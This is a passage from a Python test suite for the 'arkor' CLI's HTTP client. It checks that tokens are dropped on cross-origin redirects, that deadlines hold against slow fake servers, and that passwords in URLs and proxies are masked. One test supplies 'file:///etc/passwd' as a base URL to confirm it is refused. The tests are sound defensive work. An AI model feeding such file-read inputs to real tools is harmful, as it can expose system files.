        code, out, _ = self.run_main("whoami", HTTP_PROXY=f"http://127.0.0.1:{port}", NO_PROXY="127.0.0.1")
        self.assertEqual((code, out), (0, '{\n  "id": "u1"\n}\n'))

    def test_a_host_name_no_lookup_can_spell(self) -> None:
        # A label over 63 characters: IDNA refuses it before any lookup.
        url = "http://" + "a" * 64 + ".example"
        code, out, err = self.run_main("whoami", ARKOR_CLOUD_API_URL=url)
        self.assertEqual((code, out), (1, ""))
        self.assertEqual(err, f"Could not reach {url}/v1/me: the host name is not one DNS can carry\n")

    def test_a_length_named_by_a_204_is_no_body_to_wait_for(self) -> None:
        self.cloud.script("GET", "/v1/me", Answer(204, body=b"", headers={"Content-Length": "10"}))
        code, out, err = self.run_main("whoami")
        self.assertEqual((code, out, err), (0, "Failed to fetch /v1/me (204). Token may be expired.\n", ""))

    def test_unresolvable_host(self) -> None:
        code, out, err = self.run_main("whoami", ARKOR_CLOUD_API_URL="http://no-such-host.invalid")
        self.assertEqual((code, out), (1, ""))
        self.assertTrue(
            err.startswith("Could not reach http://no-such-host.invalid/v1/me: cannot resolve the host name"), err
        )

    def test_bad_timeout_setting(self) -> None:
        for raw in ("soon", "0", "-3", "nan", ""):
            with self.subTest(raw=raw):
                if not raw:  # set but empty: the default
                    self.cloud.add_token("anon-token-stored", user={"id": "u1"}, orgs=[])
                    self.assertEqual(self.run_main("whoami", ARKOR_HTTP_TIMEOUT=raw)[0], 0)
                    continue
                self.whoami_fails(
                    f"ARKOR_HTTP_TIMEOUT is not a positive number of seconds: {raw!r}.",
                    ARKOR_HTTP_TIMEOUT=raw,
                )
        for raw in ("inf", "1e300", "604801"):
            with self.subTest(raw=raw):
                self.whoami_fails(
                    f"ARKOR_HTTP_TIMEOUT is more than a week (604800 seconds): {raw!r}.",
                    ARKOR_HTTP_TIMEOUT=raw,
                )
        self.assertEqual(len(self.cloud.requests), 1)  # the one with the default timeout

    def test_cross_origin_redirect_drops_the_token(self) -> None:
        with FakeCloudApi() as elsewhere:
            elsewhere.add_token("anon-token-stored", user={"id": "stolen"}, orgs=[])
            # 127.0.0.1 and localhost are different origins, as are two ports.
            for target in (elsewhere.url, f"http://localhost:{self.cloud.port}"):
                with self.subTest(target=target):
                    elsewhere.requests.clear()
                    self.cloud.requests.clear()
                    self.cloud.script("GET", "/v1/me", Answer.redirect(target + "/v1/me"))
                    if target.startswith("http://localhost"):
                        self.cloud.script("GET", "/v1/me", Answer.redirect(target + "/v1/me"), Answer(401))
                    code, out, _ = self.run_main("whoami")
                    self.assertEqual(code, 0)
                    self.assertEqual(out, "Failed to fetch /v1/me (401). Token may be expired.\n")
                    followed = elsewhere.requests if target == elsewhere.url else self.cloud.requests[1:]
                    self.assertEqual(len(followed), 1, "the redirect was not followed")
                    self.assertNotIn("authorization", followed[0].headers)

    def test_a_post_is_redirected_as_urllib_redirects_it(self) -> None:
        # 301, 302 and 303 turn a POST into a GET without its body; 307 and
        # 308 would have it sent again, body and all, and are the answer.
        for status, followed in ((301, True), (302, True), (303, True), (307, False), (308, False)):
            with self.subTest(status=status):
                self.cloud.requests.clear()
                self.cloud.script("POST", "/v1/auth/anonymous", Answer.redirect("/v1/minted", status))
                self.cloud.script("GET", "/v1/minted", Answer(404, {"error": "not_found"}))
                code, out, err = self.run_main("login", "--anonymous")
                self.assertEqual((code, out), (1, ""))
                seen = [(r.method, r.path, r.body, r.headers.get("content-type")) for r in self.cloud.requests]
                if followed:
                    self.assertEqual(seen[1:], [("GET", "/v1/minted", b"", None)])
                    self.assertEqual(
                        err,
                        f'POST {self.cloud.url}/v1/auth/anonymous failed (404): {{"error": "not_found"}}\n'
                        + not_found(f"{self.cloud.url}/v1/auth/anonymous", self.cloud.url),
                    )
                else:
                    self.assertEqual(len(seen), 1)
                    self.assertEqual(err, f"POST {self.cloud.url}/v1/auth/anonymous failed ({status}): (empty body)\n")

    def test_every_request_names_arkor_as_its_user_agent(self) -> None:
        self.cloud.add_token("anon-token-stored", user={"id": "u1"}, orgs=[])
        self.assertEqual(self.run_main("whoami")[0], 0)
        self.assertEqual(self.cloud.requests[-1].headers["user-agent"], f"arkor/{arkor_cli.__version__}")

    def test_the_token_is_dropped_whatever_the_case_of_its_header(self) -> None:
        with FakeCloudApi() as elsewhere:
            self.cloud.script("GET", "/v1/me", Answer.redirect(elsewhere.url + "/v1/me"))
            headers = {"authorization": "Bearer secret", "CONTENT-TYPE": "application/json"}
            arkor_cli._http("GET", f"{self.cloud.url}/v1/me", headers=headers, body=None, seconds=5, env={})
            self.assertEqual(self.cloud.requests[-1].headers["authorization"], "Bearer secret")
            self.assertEqual(len(elsewhere.requests), 1)
            self.assertNotIn("authorization", elsewhere.requests[0].headers)
            self.assertNotIn("content-type", elsewhere.requests[0].headers)

    def test_same_origin_redirect_keeps_the_token(self) -> None:
        self.cloud.add_token("anon-token-stored", user={"id": "u1"}, orgs=[])
        self.cloud.script("GET", "/v1/me", Answer.redirect("/v1/me"), Answer(200, {"user": {"id": "u1"}, "orgs": []}))
        code, out, _ = self.run_main("whoami")
        self.assertEqual((code, out), (0, '{\n  "id": "u1"\n}\n'))
        second = self.cloud.requests[1]
        self.assertEqual(second.headers["authorization"], "Bearer anon-token-stored")

    def test_bad_base_url_in_the_file(self) -> None:
        data = json.loads(self.before)
        data["arkorCloudApiUrl"] = "file:///etc/passwd"
        self.before = self.write_creds(data)
        self.whoami_fails(
            f"{self.creds} does not hold valid arkor credentials (arkorCloudApiUrl is not an http(s) URL)."
            " Fix it, or sign in again with `arkor login`.",
            ARKOR_CLOUD_API_URL=None,
        )
        self.assertEqual(self.cloud.requests, [])


class DeadlineTest(Case):
    """ARKOR_HTTP_TIMEOUT bounds each request as a whole: connect, TLS, the
    status line, headers, any number of 1xx answers, chunk framing, trailers
    and body. The hostile servers (fake_cloud.RawServer) drip a byte every
    0.02 or 0.05 s, which no per-read timeout ever trips: without the one
    deadline the command would run until the guard gives up on it. No test
    measures time; the guard only fires when the product is broken. How far
    a request got before its deadline is not asserted: a loaded machine may
    spend the deadline sooner (loading the trust, the handshake), and that
    ends in a timeout all the same."""

    def deadline_run(self, server: Any, *argv: str, **env: str | None) -> tuple[int, str, str]:
        """``run_main`` in a thread of its own, guarded: if it is still running
        after 15 s the test fails. ``server`` (started here) is stopped either
        way, which ends a hung command too."""
        import threading

        server.start()
        self.addCleanup(server.stop)
        outcome: list[tuple[int, str, str]] = []
        thread = threading.Thread(target=lambda: outcome.append(self.run_main(*argv, **env)), daemon=True)
        thread.start()
        thread.join(15)
        hung = thread.is_alive()
        server.stop()  # wakes whatever the command waits on
        thread.join(15)
        if hung:
            self.fail(f"arkor {' '.join(argv)} still ran 15 s after a deadline of {env.get('ARKOR_HTTP_TIMEOUT')} s")
        self.assertEqual(len(outcome), 1, "main raised")
        return outcome[0]

    def assert_login_timed_out(self, server: Any, **env: str | None) -> None:
        settings: dict[str, str | None] = {"ARKOR_CLOUD_API_URL": server.url, "ARKOR_HTTP_TIMEOUT": "0.2"}
        settings.update(env)
        code, out, err = self.deadline_run(server, "login", "--anonymous", **settings)
        self.assertEqual((code, out), (1, ""))
        self.assertEqual(err, f"Could not reach {server.url}/v1/auth/anonymous: timed out\n")
        self.assertFalse(os.path.exists(self.creds))
        self.assertEqual(self.leftovers(), [])
        self.assertEqual(self.cloud.requests, [])

    def test_every_phase_of_the_answer(self) -> None:
        from fake_cloud import (
            RawServer,
            drip_body,
            drip_chunk_size,
            drip_header,
            drip_status,
            endless_continue,
            endless_trailer,
            silent,
        )

        for behaviour in (
            drip_status,
            drip_header,
            endless_continue,
            drip_chunk_size,
            endless_trailer,
            drip_body,
            silent,
        ):
            with self.subTest(behaviour.__name__):
                # 0.1 s: over plain HTTP on loopback each phase is reached
                # in milliseconds. (That the deadline does not end a request
                # early, the refresh test shows: its whoami gets its answer.)
                server = RawServer(behaviour() if behaviour is silent else behaviour(0.02))
                self.assert_login_timed_out(server, ARKOR_HTTP_TIMEOUT="0.1")

    def test_tls(self) -> None:
        from fake_cloud import RawServer, endless_continue

        # A handshake that never comes...
        server = RawServer(tls=True, stall_handshake=True)
        self.assert_login_timed_out(server, SSL_CERT_FILE=TEST_CA)
        # ...and, inside a verified TLS connection, answers that never end.
        server = RawServer(endless_continue(), tls=True)
        self.assert_login_timed_out(server, SSL_CERT_FILE=TEST_CA)

    def test_through_a_proxy_tunnel(self) -> None:
        from fake_cloud import FakeProxy, RawServer, drip_body

        server = RawServer(drip_body(), tls=True)
        with FakeProxy() as proxy:
            code, out, err = self.deadline_run(
                server,
                "login",
                "--anonymous",
                ARKOR_CLOUD_API_URL=server.url,
                ARKOR_HTTP_TIMEOUT="0.5",  # the CONNECT must reach the proxy
                SSL_CERT_FILE=TEST_CA,
                HTTPS_PROXY=proxy.url,
            )
            self.assertEqual(proxy.seen, [("CONNECT", f"127.0.0.1:{server.port}")])
        self.assertEqual((code, out), (1, ""))
        self.assertEqual(
            err,
            f"Could not reach {server.url}/v1/auth/anonymous: timed out (through the proxy {proxy.url}"
            " from HTTPS_PROXY; set NO_PROXY=127.0.0.1 to go direct)\n",
        )
        self.assertFalse(os.path.exists(self.creds))

    def oauth_creds(self, server: Any, expires_in: int) -> dict[str, Any]:
        """OAuth credentials whose Auth0 is ``server``; the cloud-api knows the access token."""
        data = self.auth0_creds()
        data["auth0Domain"] = f"127.0.0.1:{server.port}"
        data["expiresAt"] = int(time.time()) + expires_in
        self.cloud.add_token(data["accessToken"], user={"id": "u1"}, orgs=[])
        self.write_creds(data)
        return data

    def test_a_refresh_gives_up_and_the_command_goes_on(self) -> None:
        from fake_cloud import RawServer, drip_header

        server = RawServer(drip_header(), tls=True)
        self.oauth_creds(server, expires_in=30)  # within the refresh margin
        before = self.creds_bytes()
        # 0.4 s: the same bound then serves whoami's own request to the (prompt) fake cloud-api.
        code, out, err = self.deadline_run(server, "whoami", ARKOR_HTTP_TIMEOUT="0.4", SSL_CERT_FILE=TEST_CA)
        self.assertEqual((code, out), (0, '{\n  "id": "u1"\n}\n'))
        self.assertEqual(
            err,
            f"Could not renew the access token (Could not reach https://127.0.0.1:{server.port}/oauth/token:"
            " timed out); trying the stored one.\n",
        )
        self.assertEqual(self.creds_bytes(), before)
        self.assertEqual(len(self.cloud.seen("GET", "/v1/me")), 1)

    def test_the_revocation_at_logout(self) -> None:
        from fake_cloud import RawServer, drip_status

        # The revocation is bounded, as a whole, by the smaller of its own
        # 5 s and ARKOR_HTTP_TIMEOUT (the bound itself: ContextTest).
        server = RawServer(drip_status(), tls=True)
        self.oauth_creds(server, expires_in=3600)
        code, out, err = self.deadline_run(server, "logout", "--yes", ARKOR_HTTP_TIMEOUT="0.2", SSL_CERT_FILE=TEST_CA)
        self.assertEqual((code, out), (0, f"Removed {self.creds}.\n"))
        self.assertEqual(
            err,
            f"Could not revoke the refresh token (Could not reach https://127.0.0.1:{server.port}/oauth/revoke:"
            " timed out); it stays valid until it expires.\n",
        )
        self.assertFalse(os.path.exists(self.creds))

    def test_a_redirect_from_http_to_https_is_held_to_the_deadline(self) -> None:
        from fake_cloud import RawServer

        # The https:// target accepts the connection and never does the handshake.
        server = RawServer(tls=True, stall_handshake=True)
        self.sign_in_anon()
        self.cloud.script("GET", "/v1/me", Answer.redirect(f"{server.url}/v1/me"))
        code, out, err = self.deadline_run(server, "whoami", ARKOR_HTTP_TIMEOUT="0.2", SSL_CERT_FILE=TEST_CA)
        self.assertEqual((code, out), (1, ""))
        # The URL named is the one arkor asked for; the redirect's target is where it stalled.
        self.assertEqual(err, f"Could not reach {self.cloud.url}/v1/me: timed out\n")
        self.assertEqual(len(self.cloud.seen("GET", "/v1/me")), 1)

    def test_a_name_lookup_that_never_answers(self) -> None:
        import threading

        # getaddrinfo takes no timeout: one that never returns (a resolver
        # that drops the query) must still end with the deadline.
        released = threading.Event()
        self.addCleanup(released.set)
        real_getaddrinfo = socket.getaddrinfo
        asked: list[str] = []

        def getaddrinfo(host: Any, *args: Any, **kwargs: Any) -> Any:
            if host != "slow-name.test":
                return real_getaddrinfo(host, *args, **kwargs)
            asked.append(host)
            released.wait(60)  # a guard: the test releases it when it ends
            raise socket.gaierror(socket.EAI_AGAIN, "released by the test")

        base = f"http://slow-name.test:{self.cloud.port}"
        with mock.patch.object(socket, "getaddrinfo", getaddrinfo):
            code, out, err = self.deadline_run(
                _DeadlineWake(released.set), "login", "--anonymous", ARKOR_CLOUD_API_URL=base, ARKOR_HTTP_TIMEOUT="0.2"
            )
        self.assertEqual(asked, ["slow-name.test"])
        self.assertEqual((code, out), (1, ""))
        self.assertEqual(err, f"Could not reach {base}/v1/auth/anonymous: timed out\n")
        self.assertFalse(os.path.exists(self.creds))
        self.assertEqual(self.cloud.requests, [])

    @unittest.skipUnless(sys.platform.startswith("linux"), "Linux drops a SYN to a full accept queue")
    def test_every_address_of_a_name_shares_the_deadline(self) -> None:
        # A name with two addresses: the first never completes the connect
        # (a listener whose accept queue is full: the kernel drops the SYN),
        # the second is the fake cloud-api. The first takes all the time
        # there is, so the second is never connected to: no address gets a
        # deadline of its own.
        hole = socket.socket()
        self.addCleanup(hole.close)
        hole.bind(("127.0.0.1", 0))
        hole.listen(0)
        filler = socket.create_connection(hole.getsockname(), timeout=5)  # the queue is full now
        self.addCleanup(filler.close)
        addresses = [hole.getsockname(), ("127.0.0.1", self.cloud.port)]

        real_getaddrinfo = socket.getaddrinfo

        def getaddrinfo(host: Any, *args: Any, **kwargs: Any) -> Any:
            if host != "two-addresses.test":
                return real_getaddrinfo(host, *args, **kwargs)
            return [(socket.AF_INET, socket.SOCK_STREAM, socket.IPPROTO_TCP, "", a) for a in addresses]

        real_connect = socket.socket.connect
        connected: list[Any] = []

        def connect(sock: socket.socket, address: Any) -> None:
            if address in addresses:  # not another thread's connection
                connected.append(address)
            real_connect(sock, address)

        base = f"http://two-addresses.test:{self.cloud.port}"
        with contextlib.ExitStack() as patches:
            patches.enter_context(mock.patch.object(socket, "getaddrinfo", getaddrinfo))
            patches.enter_context(mock.patch.object(socket.socket, "connect", connect))
            code, out, err = self.deadline_run(
                _DeadlineWake(filler.close), "login", "--anonymous", ARKOR_CLOUD_API_URL=base, ARKOR_HTTP_TIMEOUT="0.2"
            )
        self.assertEqual((code, out), (1, ""))
        self.assertEqual(err, f"Could not reach {base}/v1/auth/anonymous: timed out\n")
        self.assertEqual(connected, [addresses[0]])
        self.assertEqual(self.cloud.requests, [])
        self.assertFalse(os.path.exists(self.creds))


class _DeadlineWake:
    """Stands in for a server in ``DeadlineTest.deadline_run``: its stop()
    wakes whatever the command waits on."""

    def __init__(self, wake: Callable[[], object]) -> None:
        self.wake = wake

    def start(self) -> _DeadlineWake:
        return self

    def stop(self) -> None:
        self.wake()


class UrlUserinfoTest(Case):
    """A user name or password in a URL is sent nowhere (not even to DNS) and
    printed nowhere: the base URL, a proxy's URL, a redirect's Location."""

    def assert_nothing_leaked(self, *texts: str) -> None:
        for text in texts:
            for secret in ("alice", "PW", "bob", "SECRET"):
                self.assertNotIn(secret, text)

    def test_a_base_url_with_userinfo_is_refused_before_anything_is_sent(self) -> None:
        import socket

        port = self.cloud.port
        self.sign_in_anon()
        for base, shown in (
            (f"http://alice:PW@127.0.0.1:{port}", f"http://***@127.0.0.1:{port}"),
            (f"http://alice@127.0.0.1:{port}/", f"http://***@127.0.0.1:{port}"),
            # A name that cannot resolve: the error is this line, not a failed lookup.
            ("https://alice:PW@nonexistent.invalid", "https://***@nonexistent.invalid"),
        ):
            for argv in (("login", "--anonymous"), ("whoami",)):
                with self.subTest(base=base, argv=argv):
                    before = self.creds_bytes()
                    with mock.patch.object(socket, "getaddrinfo", wraps=socket.getaddrinfo) as lookup:
                        code, out, err = self.run_main(*argv, ARKOR_CLOUD_API_URL=base)
                    self.assertEqual((code, out), (1, ""))
                    self.assertEqual(
                        err,
                        f"ARKOR_CLOUD_API_URL holds a user name or password ({shown}); arkor sends it nowhere."
                        " Remove it from the URL.\n",
                    )
                    self.assert_nothing_leaked(out, err)
                    self.assertEqual(lookup.call_count, 0)
                    self.assertEqual(self.cloud.requests, [])
                    self.assertEqual(self.creds_bytes(), before)

    def test_a_refused_base_url_is_shown_without_its_password(self) -> None:
        # Refused for its port or scheme, or too malformed to parse: the
        # message still shows it without a user name or password.
        self.sign_in_anon()
        not_url = "ARKOR_CLOUD_API_URL is not an http(s) URL: {!r}.\n"
        bad_port = "ARKOR_CLOUD_API_URL has a port that is not a number from 1 to 65535: {!r}.\n"
        for base, message, shown in (
            ("http://alice:PW@127.0.0.1:99999", bad_port, "http://***@127.0.0.1:99999"),
            ("http://alice:PW@127.0.0.1:3625x", bad_port, "http://***@127.0.0.1:3625x"),
            ("ftp://alice:PW@127.0.0.1", not_url, "ftp://***@127.0.0.1"),
            ("http://alice:PW@[::1", not_url, "http://***@[::1"),
            ("http:/alice:PW@127.0.0.1", not_url, "***@127.0.0.1"),
            ("alice:PW@127.0.0.1", not_url, "***@127.0.0.1"),
        ):
            for argv in (("login", "--anonymous"), ("whoami",)):
                with self.subTest(base=base, argv=argv):
                    code, out, err = self.run_main(*argv, ARKOR_CLOUD_API_URL=base)
                    self.assertEqual((code, out, err), (1, "", message.format(shown)))
                    self.assert_nothing_leaked(out, err)
        self.assertEqual(self.cloud.requests, [])

    def test_an_at_sign_in_a_base_urls_path_leaves_the_url_whole_in_an_error(self) -> None:
        # Only a user name and password are masked: an @ further on is part of
        # the URL that was asked, whose host the error must name (SPEC 4).
        self.sign_in_anon()
        base = f"http://127.0.0.1:{free_port()}/@api.arkor.ai"  # nothing listens there
        for argv, endpoint in ((("login", "--anonymous"), "/v1/auth/anonymous"), (("whoami",), "/v1/me")):
            with self.subTest(argv=argv):
                code, out, err = self.run_main(*argv, ARKOR_CLOUD_API_URL=base)
                self.assertEqual((code, out), (1, ""))
                self.assertTrue(err.startswith(f"Could not reach {base}{endpoint}: "), err)
                self.assertNotIn("***", err)

    def test_a_proxy_password_is_never_printed(self) -> None:
        port = free_port()  # nothing listens: the proxy is unreachable
        https_base = f"https://127.0.0.1:{free_port()}"
        for variable, value, base in (
            ("HTTP_PROXY", f"http://bob:SECRET@127.0.0.1:{port}", self.cloud.url),
            ("http_proxy", f"bob:SECRET@127.0.0.1:{port}", self.cloud.url),  # no scheme: http:// is meant
            ("HTTPS_PROXY", f"http://bob:SECRET@127.0.0.1:{port}", https_base),
            ("https_proxy", f"http://bob:SE@CRET@127.0.0.1:{port}", https_base),  # an @ in the password
        ):
            with self.subTest(variable=variable, value=value):
                code, out, err = self.run_main("login", "--anonymous", ARKOR_CLOUD_API_URL=base, **{variable: value})
                self.assertEqual((code, out), (1, ""))
                self.assertEqual(
                    err,
                    f"Could not reach {base}/v1/auth/anonymous: Connection refused (through the proxy"
                    f" http://***@127.0.0.1:{port} from {variable.upper()}; set NO_PROXY=127.0.0.1 to go direct)\n",
                )
                self.assert_nothing_leaked(out, err)

    def test_a_malformed_proxy_url_is_refused_unquoted(self) -> None:
        # One slash missing: an error that quoted it would quote the password.
        https_base = f"https://127.0.0.1:{free_port()}"
        for variable, value, base in (
            ("HTTPS_PROXY", "http:/alice:S3cretPW@proxy.corp:3128", https_base),
            ("http_proxy", "http:/bob:SECRET@proxy.corp:3128", self.cloud.url),
        ):
            with self.subTest(variable=variable):
                code, out, err = self.run_main("login", "--anonymous", ARKOR_CLOUD_API_URL=base, **{variable: value})
                self.assertEqual((code, out), (1, ""))
                self.assertEqual(err, f"{variable.upper()} is not a proxy URL (http://host:port); fix or unset it.\n")
                self.assertNotIn("S3cretPW", err)
                self.assert_nothing_leaked(out, err)
                self.assertFalse(os.path.exists(self.creds))
        self.assertEqual(self.cloud.requests, [])

    def test_a_redirect_to_a_url_with_userinfo_is_not_followed(self) -> None:
        self.sign_in_anon()
        target = f"http://alice:PW@127.0.0.1:{self.cloud.port}/v1/me"
        self.cloud.script("GET", "/v1/me", Answer.redirect(target), Answer(200, {"user": {"id": "followed"}}))
        code, out, err = self.run_main("whoami")
        self.assertEqual((code, out, err), (0, "Failed to fetch /v1/me (302). Token may be expired.\n", ""))
        self.assertEqual(len(self.cloud.requests), 1)
        self.assert_nothing_leaked(out, err)


class ErrorTextTest(Case):
    """An error names the full URL that was asked, quotes at most one line of
    a body (an HTML page by its title), and says what to check."""

    def login_fails(self, message: str, **env: str | None) -> None:
        code, out, err = self.run_main("login", "--anonymous", **env)
        self.assertEqual((code, out, err), (1, "", message + "\n"))
        self.assertFalse(os.path.exists(self.creds))

    def test_the_full_url_shows_a_wrong_base(self) -> None:
        # Every cloud-api request's 404 says what to check, not only whoami's.
        base = self.cloud.url + "/v1"
        self.login_fails(
            f'POST {base}/v1/auth/anonymous failed (404): {{"error": "not_found"}}\n'
            + not_found(f"{base}/v1/auth/anonymous", base).rstrip("\n"),
            ARKOR_CLOUD_API_URL=base,
        )
        code, out, err = self.run_main("login", ARKOR_CLOUD_API_URL=base)  # the config fetch
        self.assertEqual((code, out), (1, ""))
        self.assertEqual(
            err,
            f'GET {base}/v1/auth/cli/config failed (404): {{"error": "not_found"}}\n'
            + not_found(f"{base}/v1/auth/cli/config", base),
        )

    def test_a_server_that_is_not_arkor(self) -> None:
        # The standard library's own server: its 501 for a POST is an HTML page.
        import http.server
        import threading

        class Quiet(http.server.BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: Any) -> None:
                pass

        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Quiet)
        threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
        self.addCleanup(server.server_close)
        self.addCleanup(server.shutdown)
        url = f"http://127.0.0.1:{server.server_address[1]}"
        self.login_fails(
            f"POST {url}/v1/auth/anonymous failed (501): an HTML page, 'Error response'\n"
            + server_failed(f"{url}/v1/auth/anonymous", 501).rstrip("\n"),
            ARKOR_CLOUD_API_URL=url,
        )

    def test_bodies_are_quoted_on_one_line(self) -> None:
        url = f"{self.cloud.url}/v1/auth/anonymous"
        for answer, message in (
            (
                Answer(500, body=b"Internal failure\nTraceback (most recent call last):\n  File x\n"),
                f"POST {url} failed (500): Internal failure\n" + server_failed(url, 500).rstrip("\n"),
            ),
            (
                # No Content-Type, and no <title>: still only said to be a page.
                Answer(502, body=b"<!DOCTYPE html>\n<html><body><h1>Bad gateway</h1>\n</body></html>"),
                f"POST {url} failed (502): an HTML page\n" + server_failed(url, 502).rstrip("\n"),
            ),
            (
                # The sign-in's answer holds the new token: named, never quoted.
                Answer(201, body=b'{"token": "t",\n "x": ', headers={"Content-Type": "application/json"}),
                f"Unexpected answer from POST {url} (201): not JSON (Expecting value (line 2, column 7)).",
            ),
        ):
            with self.subTest(message):
                self.cloud.script("POST", "/v1/auth/anonymous", answer)
                self.login_fails(message)

    def test_tls_failures_say_what_to_check(self) -> None:
        # https:// at a plain-HTTP server.
        base = f"https://127.0.0.1:{self.cloud.port}"
        self.login_fails(
            f"Could not reach {base}/v1/auth/anonymous: TLS failed (WRONG_VERSION_NUMBER): the server may be"
            " speaking plain HTTP; check http:// or https://",
            ARKOR_CLOUD_API_URL=base,
        )
        # A CA bundle or folder named by the environment that is not there.
        with FakeCloudApi(tls=True) as tls:
            untrusted = f"Could not reach {tls.url}/v1/auth/anonymous: TLS certificate not trusted (unable to get"
            self.login_fails(
                f"{untrusted} local issuer certificate). SSL_CERT_FILE names /nonexistent.pem, which is not a file.",
                ARKOR_CLOUD_API_URL=tls.url,
                SSL_CERT_FILE="/nonexistent.pem",
            )
            self.login_fails(
                f"{untrusted} local issuer certificate). SSL_CERT_DIR names /nonexistent-dir, which is not a folder.",
                ARKOR_CLOUD_API_URL=tls.url,
                SSL_CERT_DIR="/nonexistent-dir",
            )
            self.assertEqual(tls.requests, [])


class ProxyEnvironmentTest(OAuthCase):
    """HTTP_PROXY / HTTPS_PROXY / NO_PROXY, read from the command's own
    environment on every run (one process runs main() with several)."""

    def setUp(self) -> None:
        from fake_cloud import FakeProxy

        super().setUp()
        self.proxy = FakeProxy().start()
        self.addCleanup(self.proxy.stop)
        self.dead = f"http://127.0.0.1:{free_port()}"  # a proxy that is not there
        self.sign_in_anon()
        self.cloud.add_token("anon-token-stored", user={"id": "u1"}, orgs=[])

    def whoami(self, **env: str | None) -> tuple[int, str, str]:
        self.proxy.seen.clear()
        return self.run_main("whoami", **env)

    def test_http_proxy(self) -> None:
        me = f"{self.cloud.url}/v1/me"
        ok = (0, '{\n  "id": "u1"\n}\n', "")
        refused = (
            1,
            "",
            (
                f"Could not reach {me}: Connection refused (through the proxy {self.dead} from HTTP_PROXY;"
                " set NO_PROXY=127.0.0.1 to go direct)\n"
            ),
        )
        for env, outcome, seen in (
            ({"HTTP_PROXY": self.proxy.url}, ok, [("GET", me)]),
            ({"http_proxy": self.proxy.url}, ok, [("GET", me)]),
            # Lower case wins, either way round.
            ({"HTTP_PROXY": self.dead, "http_proxy": self.proxy.url}, ok, [("GET", me)]),
            ({"HTTP_PROXY": self.proxy.url, "http_proxy": self.dead}, refused, []),
            # NO_PROXY (or no_proxy) sends it direct.
            ({"HTTP_PROXY": self.dead, "NO_PROXY": "127.0.0.1"}, ok, []),
            ({"http_proxy": self.dead, "no_proxy": "localhost,127.0.0.1"}, ok, []),
            ({"HTTP_PROXY": self.proxy.url, "NO_PROXY": "example.com"}, ok, [("GET", me)]),
            # The proxy of the other scheme is not used.
            ({"HTTPS_PROXY": self.dead}, ok, []),
            ({}, ok, []),
        ):
            with self.subTest(env=env):
                self.assertEqual(self.whoami(**env), outcome)
                self.assertEqual(self.proxy.seen, seen)

    def test_https_goes_through_a_tunnel_with_tls_checked_end_to_end(self) -> None:
        # The renewal of an expiring token: POST https://<auth0>/oauth/token.
        self.sign_in_oauth(expires_in=30)
        code, out, err = self.whoami(HTTPS_PROXY=self.proxy.url)
        self.assertEqual((code, err), (0, ""))
        self.assertTrue(out.startswith('{\n  "id": "auth0|ada"'), out)
        self.assertEqual(self.proxy.seen, [("CONNECT", self.auth0.domain)])
        self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 1)
        # Through the tunnel the certificate is still checked: without the test CA it is refused.
        self.sign_in_oauth(expires_in=30)
        code, _, err = self.whoami(HTTPS_PROXY=self.proxy.url, SSL_CERT_FILE=None)
        self.assertEqual(code, 0)
        mac = " With a python.org build of Python, run its 'Install Certificates' command once."
        self.assertEqual(
            err,
            f"Could not renew the access token (Could not reach https://{self.auth0.domain}/oauth/token:"
            " TLS certificate not trusted (unable to get local issuer certificate). If your network uses its own"
            " certificate authority, point SSL_CERT_FILE at its bundle."
            + (mac if sys.platform == "darwin" else "")
            + f" (through the proxy {self.proxy.url} from HTTPS_PROXY; set NO_PROXY=127.0.0.1 to go direct));"
            " trying the stored one.\n",
        )
        self.assertEqual(self.proxy.seen, [("CONNECT", self.auth0.domain)])
        self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 1)

    def test_a_proxy_that_names_a_user_is_signed_in_to(self) -> None:
        # Percent-escapes in the user and password are undone, as urllib does.
        host = self.proxy.url.removeprefix("http://")
        basic = "Basic " + base64.b64encode(b"bob:s@cret").decode("ascii")
        self.assertEqual(self.whoami(HTTP_PROXY=f"http://bob:s%40cret@{host}"), (0, '{\n  "id": "u1"\n}\n', ""))
        self.assertEqual((self.proxy.seen, self.proxy.authorizations), ([("GET", f"{self.cloud.url}/v1/me")], [basic]))
        self.assertNotIn("proxy-authorization", self.cloud.requests[-1].headers)  # for the proxy alone
        # Through a tunnel the header goes with the CONNECT, and not inside it.
        self.sign_in_oauth(expires_in=30)
        self.proxy.authorizations.clear()
        code, _, err = self.whoami(HTTPS_PROXY=f"http://bob:s%40cret@{host}")
        self.assertEqual((code, err), (0, ""))
        self.assertEqual((self.proxy.seen, self.proxy.authorizations), ([("CONNECT", self.auth0.domain)], [basic]))
        self.assertNotIn("proxy-authorization", self.auth0.seen("POST", "/oauth/token")[-1].headers)

    def test_each_redirect_gets_its_own_proxy_decision(self) -> None:
        # 127.0.0.1 goes direct; the redirect to localhost (another origin,
        # so without the token) goes through the proxy.
        moved = f"http://localhost:{self.cloud.port}/v1/me"
        self.cloud.script("GET", "/v1/me", Answer.redirect(moved), Answer(401))
        code, out, err = self.whoami(HTTP_PROXY=self.proxy.url, NO_PROXY="127.0.0.1")
        self.assertEqual(
            (code, out, err),
            (0, "Failed to fetch /v1/me (401). Token may be expired.\n", ANON_401),
        )
        self.assertEqual(self.proxy.seen, [("GET", moved)])
        self.assertEqual(
            [r.headers.get("authorization") for r in self.cloud.requests[-2:]], ["Bearer anon-token-stored", None]
        )

    def test_the_proxy_password_stays_with_the_proxy_across_a_redirect(self) -> None:
        # urllib copies a request's headers, its Proxy-Authorization too, to
        # the redirect; one that then goes direct (NO_PROXY) must not carry it.
        host = self.proxy.url.removeprefix("http://")
        moved = f"http://localhost:{self.cloud.port}/v1/me"
        self.cloud.script("GET", "/v1/me", Answer.redirect(moved), Answer(401))
        code, out, err = self.whoami(HTTP_PROXY=f"http://bob:s3cret@{host}", NO_PROXY="localhost")
        self.assertEqual((code, out, err), (0, "Failed to fetch /v1/me (401). Token may be expired.\n", ANON_401))
        self.assertEqual(self.proxy.seen, [("GET", f"{self.cloud.url}/v1/me")])
        direct = self.cloud.requests[-1]
        self.assertEqual((direct.path, direct.headers.get("host")), ("/v1/me", f"localhost:{self.cloud.port}"))
        self.assertNotIn("proxy-authorization", direct.headers)

    def test_a_proxy_of_another_kind_is_refused_before_anything_is_sent(self) -> None:
        # An https:// proxy would need TLS to the proxy itself: refused rather than spoken to in clear.
        for value in (
            "socks5://127.0.0.1:1080",
            "https://127.0.0.1:3128",
            "http://127.0.0.1:3128?x=1",
            "http://[127.0.0.1:3128",
        ):
            with self.subTest(value=value):
